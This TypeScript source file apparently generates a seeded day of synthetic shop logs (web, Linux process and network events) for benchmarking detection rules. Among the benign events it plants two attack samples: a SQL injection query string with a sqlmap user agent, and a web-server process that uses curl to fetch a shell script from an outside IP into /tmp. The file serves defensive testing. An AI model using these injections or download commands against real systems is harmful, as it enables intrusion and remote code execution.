/** A day's events of a shop with a few that rules look for: web, Linux, network. The same for the same seed. */
import type { EventFields } from './event-fields.ts';
import type { Logsource } from './rule.ts';

export interface BenchEvent {
  event: EventFields;
  logsource: Logsource;
}

const paths = [
  '/',
  '/p/4711',
  '/basket',
  '/account/login',
  '/search?q=ibuprofen',
  '/static/app.9f3c1.js',
  '/api/v2/stock/1188',
];
const agents = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1',
];
const commands: [string, string][] = [
  ['/usr/bin/grep', 'grep -rn session_timeout /etc/shop/conf.d'],
  ['/usr/bin/python3', 'python3 /opt/shop/jobs/reindex.py --since 3600 --batch 500'],
  ['/usr/sbin/sshd', 'sshd: a.weber [priv]'],
  ['/usr/bin/bash', 'bash -c "systemctl status shop-worker@3.service --no-pager"'],
  ['/usr/bin/pg_dump', 'pg_dump --format=custom --file=/var/backups/shop.dump shop'],
  ['/usr/bin/curl', 'curl -fsS http://127.0.0.1:8080/healthz'],
];
const hosts = [
  'cdn.shop.example',
  'api.payments.example',
  'ntp.ubuntu.com',
  'deb.debian.org',
  'mail.shop.example',
];
const attacks: BenchEvent[] = [
  {
    logsource: { category: 'webserver' },
    event: {
      'cs-method': 'GET',
      'cs-uri-query': "/p?id=1' UNION ALL SELECT null,@@version--",
      'c-useragent': 'sqlmap/1.8',
      'sc-status': 200,
    },
  },
  {
    logsource: { product: 'linux', category: 'process_creation' },
    event: {
      Image: '/usr/bin/curl',
      CommandLine: 'curl -k http://203.0.113.9/x.sh -o /tmp/x.sh',
      ParentImage: '/usr/sbin/nginx',
      User: 'www-data',
    },
  },
];

/** Numbers from 0 to below 1, the same for the same seed (mulberry32). */
export function random(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let t = Math.imul(state ^ (state >>> 15), 1 | state);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4_294_967_296;
  };
}

export function benchEvents(count: number, seed = 7): BenchEvent[] {
  const next = random(seed);
  const one = <Value>(list: readonly Value[], fallback: Value): Value =>
    list[Math.floor(next() * list.length)] ?? fallback;
  const address = () =>
    `${10 + Math.floor(next() * 200)}.${Math.floor(next() * 256)}.${Math.floor(next() * 256)}.7`;
  return Array.from({ length: count }, (_, index): BenchEvent => {
    if (index % 200 === 199) return one(attacks, { event: {}, logsource: {} });
    const kind = index % 4;
    const timestamp = new Date(1_795_000_000_000 + index * 40).toISOString();
    if (kind <= 1) {
      const path = one(paths, '/');
      return {
        logsource: { category: 'webserver' },
        event: {
          timestamp,
          'c-ip': address(),
          'cs-method': next() < 0.9 ? 'GET' : 'POST',
          'cs-uri-stem': path.split('?')[0],
          'cs-uri-query': path,
          'cs-host': 'shop.example',
          'c-useragent': one(agents, ''),
          'cs-referer': 'https://shop.example/',
          'sc-status': next() < 0.95 ? 200 : 404,
          'sc-bytes': Math.floor(next() * 50_000),
        },
      };
    }
    if (kind === 2) {
      const [Image, CommandLine] = one(commands, ['', '']);
      return {
        logsource: { product: 'linux', category: 'process_creation' },
        event: {
          timestamp,
          Image,
          CommandLine,
          ParentImage: '/usr/lib/systemd/systemd',
          ParentCommandLine: '/sbin/init splash',
          CurrentDirectory: '/opt/shop',
          User: next() < 0.5 ? 'shop' : 'root',
          LogonId: Math.floor(next() * 100_000),
          ProcessId: Math.floor(next() * 32_768),
          Computer: 'shop-server-1',
        },
      };
    }
    return {
      logsource: next() < 0.5 ? { product: 'zeek', service: 'dns' } : { category: 'firewall' },
      event: {
        timestamp,
        src_ip: address(),
        src_port: 1_024 + Math.floor(next() * 60_000),
        dst_ip: address(),
        dst_port: one([443, 53, 80, 5432], 443),
        action: next() < 0.9 ? 'accept' : 'blocked',
        proto: 'tcp',
        query: one(hosts, ''),
        qtype_name: 'A',
        answers: [address(), address()],
      },
    };
  });
}
